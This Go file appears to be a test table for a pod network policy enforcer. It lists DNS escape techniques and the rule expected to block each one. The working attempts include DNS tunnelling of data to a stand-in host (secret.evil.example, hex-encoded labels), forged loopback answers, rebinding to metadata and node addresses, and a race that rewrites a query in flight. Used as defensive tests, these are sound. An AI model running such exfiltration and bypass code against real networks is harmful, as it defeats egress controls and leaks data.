package escapes

import (
	"strings"
	"unsafe"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// dnsActs are the rows of names.
var dnsActs = []escape{
	asked("D1a", "a query without a connection", "secret.evil.example"),
	{id: "D1b", technique: "a query on a connected socket", do: func() error {
		fd, err := datagrams()
		if err != nil {
			return err
		}
		if err := unix.Connect(fd, at(resolver, 53)); err != nil {
			return prepare(err)
		}
		if _, err := unix.Write(fd, query("secret.evil.example")); err != nil {
			return err
		}
		return answered(fd)
	}, rules: netRules, hook: "dns_query", action: "host", rule: "default", end: "EPERM"},
	asked("D2", "mixed case", "sEcReT.eViL.eXaMpLe"),
	{id: "D3a", technique: "a query over TCP, to the pod's own resolver", do: func() error { return overTCP(resolver, 53) },
		rules: netRules, hook: "socket_connect", action: "addr", rule: "builtin/resolver"},
	{id: "D3b", technique: "a query over TCP, to another", do: func() error { return overTCP(foreign, 53) },
		rules: netRules, hook: "socket_connect", action: "addr", rule: "builtin/resolver"},
	plain("D4", "a query of more than 512 bytes, padded", func(m *dns.Msg) {
		m.SetEdns0(1232, false)
		m.IsEdns0().Option = append(m.IsEdns0().Option, &dns.EDNS0_PADDING{Padding: make([]byte, 700)})
	}),
	asked("D5", "a name of 250 bytes", strings.Repeat(strings.Repeat("x", 48)+".", 5)+"evil"),
	{id: "D6", technique: "a query in pieces", do: func() error {
		fd, err := datagrams()
		if err != nil {
			return err
		}
		m := query("secret.evil.example")
		if _, err := unix.SendmsgBuffers(fd, [][]byte{m[:12], m[12:20], m[20:]}, nil, at(resolver, 53), 0); err != nil {
			return err
		}
		return answered(fd)
	}, rules: netRules, hook: "dns_query", action: "host", rule: "default", end: "EPERM"},
	{id: "D7", technique: "a query that another thread rewrites", do: rewrittenQuery, rules: netRules,
		hook: "dns_query", action: "host", rule: "default", end: "EPERM"},
	{id: "D8a", technique: "DNS over TLS, at the pod's own resolver", do: func() error { return overTCP(resolver, 853) },
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D8b", technique: "DNS over HTTPS, or any other way, at an address without an allowed name", do: func() error { return stream(elsewhere, 443) },
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D8c", technique: "a name server on a high port", do: func() error { return sends(foreign, 5300, query("x.example")) },
		rules: netRules, hook: "socket_sendmsg", action: "addr", rule: "default"},
	{id: "D8d", technique: "mDNS", do: func() error { return sendsOnly("224.0.0.251", 5353) },
		rules: netRules, hook: "socket_sendmsg", action: "addr", rule: "default"},
	{id: "D8e", technique: "LLMNR", do: func() error { return sendsOnly("224.0.0.252", 5355) },
		rules: netRules, hook: "socket_sendmsg", action: "addr", rule: "default"},
	{id: "D9a", technique: "connect to an address that no answer gave", do: func() error { return stream(nodeAddr, 443) },
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D9b", technique: "the same to one that an answer gave, which is allowed", do: thenConnects("good.zone.example", allowed),
		rules: netRules, hook: "socket_connect", action: "addr", rule: "zone", end: "ok"},
	{id: "D10", technique: "an address that an allowed name shares with others",
		reason: "by address they cannot be told apart: a limit, see docs/network.md"},
	{id: "D11", technique: "names with very many addresses", test: "pkg/loader TestReadAnswer"},
	{id: "D12a", technique: "a resolver of one's own", do: func() error { return sends(foreign, 53, query("good.zone.example")) },
		rules: netRules, hook: "socket_sendmsg", action: "addr", rule: "builtin/resolver"},
	{id: "D12b", technique: "an answer forged within the pod", do: forged, rules: netRules + ownLoopback, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D12c", technique: "an answer for a name that was not asked", do: thenConnects("another.zone.example", elsewhere),
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D12d", technique: "an answer with another number", do: thenConnects("number.zone.example", elsewhere),
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D12e", technique: "the address of another name behind the right question", do: thenConnects("owner.zone.example", elsewhere),
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D12f", technique: "a truncated answer", do: thenConnects("truncated.zone.example", elsewhere),
		rules: netRules, hook: "socket_connect", action: "addr", rule: "default"},
	{id: "D12g", technique: "an answer to another of the pod's sockets, as if its own", do: guessed, rules: netRules + ownLoopback,
		hook: "socket_connect", action: "addr", rule: "default"},
	rebinding("D13a", "an allowed name that leads to loopback", "loopback.zone.example", "127.0.0.1"),
	{id: "D13b", technique: "an allowed name that leads to the metadata address", do: thenConnects("metadata.zone.example", metadata),
		rules: netRules, hook: "socket_connect", action: "addr", rule: "builtin/metadata"},
	rebinding("D13c", "an allowed name that leads to the node", "node.zone.example", nodeAddr),
	asked("D14a", "data in the labels of a name", "4d7920736563726574.evil.example"),
	{id: "D14b", technique: "data in long labels below an allowed name", do: func() error {
		return asks(strings.Repeat("4d79", 10) + ".zone.example")
	}, rules: netRules + "dns: {maxLabel: 30}\n", hook: "dns_query", action: "host", rule: "builtin/dns", end: "EPERM"},
	{id: "D14c", technique: "data in many queries below an allowed name", do: func() error {
		for range 40 {
			if err := asks("good.zone.example"); err != nil {
				return err
			}
		}
		return nil
	}, rules: netRules + "dns: {rate: 20}\n", hook: "dns_query", action: "host", rule: "builtin/dns", end: "EPERM"},
	ofType("D14d", "data in the text of an allowed name (TXT)", dns.TypeTXT),
	ofType("D14e", "a NULL query for an allowed name", dns.TypeNULL),
	ofType("D14f", "a zone transfer of an allowed name", dns.TypeAXFR),
	asked("D15a", "a name that only looks like an allowed one", "evilzone.example"),
	asked("D15b", "the zone itself, where what is below it is allowed", "zone.example"),
	asked("D15c", "a name with an allowed one in front", "allowed.example.evil.example"),
	asked("D15d", "an address as a name", elsewhere),
	{id: "D16", technique: "fill the table of names", reason: "it holds a bounded number of names and addresses for each pod; what is forgotten is not connected to, see docs/network.md"},
	{id: "D17", technique: "an address past its time", reason: "it is bound for its TTL and a grace; a rule by name holds no longer, see docs/network.md"},
	{id: "D18", technique: "end the agent while names are resolved", reason: "the agent is not in the way of queries and answers: programs of the kernel read them"},
	{id: "D19", technique: "confuse who reads the answer", test: "pkg/loader TestDNSOracle"},
	plain("D19b", "two questions in a message", func(m *dns.Msg) {
		m.Question = append(m.Question, dns.Question{Name: "evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
	}),
	plain("D19c", "another opcode", func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate }),
	plain("D19d", "a record of the client's own", func(m *dns.Msg) {
		m.Extra = append(m.Extra, &dns.TXT{Hdr: dns.RR_Header{Name: "x.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{"secret"}})
	}),
	raw("D19e", "bytes behind the message", func() error { return sends(resolver, 53, append(query("good.zone.example"), "secret"...)) }),
	raw("D19f", "several queries in one packet (UDP_SEGMENT)", segmented),
	raw("D19g", "no message at all", func() error { return sendsOnly(resolver, 53) }),
}

// ownLoopback is what a pod has with a network of its own.
const ownLoopback = "  - {id: own, action: network.request, cidr: 127.0.0.0/8, decision: allow}\n"

// asked is a query for a name that no rule allows.
func asked(id, technique, name string) escape {
	return escape{id: id, technique: technique, do: func() error { return asks(name) }, rules: netRules,
		hook: "dns_query", action: "host", rule: "default", end: "EPERM"}
}

// raw is a message that is no plain query.
func raw(id, technique string, do func() error) escape {
	return escape{id: id, technique: technique, do: do, rules: netRules, hook: "dns_query", action: "host", rule: "builtin/dns", end: "EPERM"}
}

// plain is a query for an allowed name with something done to it.
func plain(id, technique string, change func(*dns.Msg)) escape {
	return raw(id, technique, func() error {
		m := new(dns.Msg)
		m.SetQuestion("good.zone.example.", dns.TypeA)
		change(m)
		return sends(resolver, 53, packed(m))
	})
}

func ofType(id, technique string, kind uint16) escape {
	return plain(id, technique, func(m *dns.Msg) { m.Question[0].Qtype = kind })
}

// rebinding is an allowed name whose zone's owner leads it elsewhere.
func rebinding(id, technique, name, to string) escape {
	return escape{id: id, technique: technique, do: thenConnects(name, to), rules: netRules, hook: "socket_connect", action: "addr", rule: "default"}
}

// sendsOnly sends what is no DNS message, and waits for nothing.
func sendsOnly(to string, port int) error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Sendto(fd, []byte("secret"), 0, at(to, port))
}

// overTCP asks over a connection.
func overTCP(server string, port int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return prepare(err)
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, at(server, port)); err != nil {
		return err
	}
	m := query("secret.evil.example")
	if _, err := unix.Write(fd, append([]byte{0, byte(len(m))}, m...)); err != nil {
		return prepare(err)
	}
	_, err = unix.Read(fd, make([]byte, 512))
	return prepare(err)
}

// forged asks the pod's resolver for a name that is never answered, and answers
// it itself, from port 53 of another of the pod's addresses.
func forged() error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	m := new(dns.Msg)
	m.SetQuestion("silent.zone.example.", dns.TypeA)
	if err := unix.Sendto(fd, packed(m), 0, at(resolver, 53)); err != nil {
		return prepare(err)
	}
	name, err := unix.Getsockname(fd)
	if err != nil {
		return prepare(err)
	}
	return claims(m, name.(*unix.SockaddrInet4).Port)
}

// claims answers a query from port 53 of loopback, to a port, and connects to what it said.
func claims(m *dns.Msg, port int) error {
	liar, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		err = unix.Bind(liar, at("127.0.0.53", 53))
	}
	if err != nil {
		return prepare(err)
	}
	r := new(dns.Msg)
	r.SetReply(m)
	r.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: m.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: []byte{203, 0, 113, 99}}}
	if err := unix.Sendto(liar, packed(r), 0, at("127.0.0.1", port)); err != nil {
		return prepare(err)
	}
	return stream(elsewhere, 443)
}

// guessed asks on one socket, and answers on another one that has asked nothing.
func guessed() error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	other, err := datagrams()
	if err != nil {
		return err
	}
	m := new(dns.Msg)
	m.SetQuestion("silent.zone.example.", dns.TypeA)
	if err := unix.Sendto(fd, packed(m), 0, at(resolver, 53)); err != nil {
		return prepare(err)
	}
	if err := unix.Bind(other, at("127.0.0.1", 0)); err != nil {
		return prepare(err)
	}
	name, err := unix.Getsockname(other)
	if err != nil {
		return prepare(err)
	}
	return claims(m, name.(*unix.SockaddrInet4).Port)
}

// segmented sends two queries, of which the network card, or the kernel for it, makes two packets.
func segmented() error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	good, evil := query("good.zone.example"), query("evil.zone.example")
	oob := make([]byte, unix.CmsgSpace(2))
	h := (*unix.Cmsghdr)(unsafe.Pointer(&oob[0]))
	h.Level, h.Type = unix.SOL_UDP, unix.UDP_SEGMENT
	h.SetLen(unix.CmsgLen(2))
	*(*uint16)(unsafe.Pointer(&oob[unix.CmsgLen(0)])) = uint16(len(good))
	if _, err := unix.SendmsgN(fd, append(good, evil...), oob, at(resolver, 53), 0); err != nil {
		return err
	}
	return answered(fd)
}

// rewrittenQuery sends a query while another thread changes its name between
// one that is allowed and one that is not, until the latter is answered.
func rewrittenQuery() error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	buf, good, evil := query("good.zone.example"), query("good.zone.example"), query("good.evil.example")
	stop := make(chan bool)
	defer close(stop)
	go func() {
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			if i%2 == 0 {
				copy(buf[12:], evil[12:])
			} else {
				copy(buf[12:], good[12:])
			}
		}
	}()
	refused := false
	for range 200 {
		switch err := unix.Sendto(fd, buf, 0, at(resolver, 53)); err {
		case nil:
		case unix.EPERM:
			refused = true
			continue
		default:
			return prepare(err)
		}
		b := make([]byte, 4096)
		n, _, err := unix.Recvfrom(fd, b, 0)
		if err != nil {
			return prepare(err)
		}
		var m dns.Msg
		if err := m.Unpack(b[:n]); err == nil && m.Question[0].Name == "good.evil.example." {
			return nil
		}
	}
	if refused {
		return unix.EPERM
	}
	return nil
}
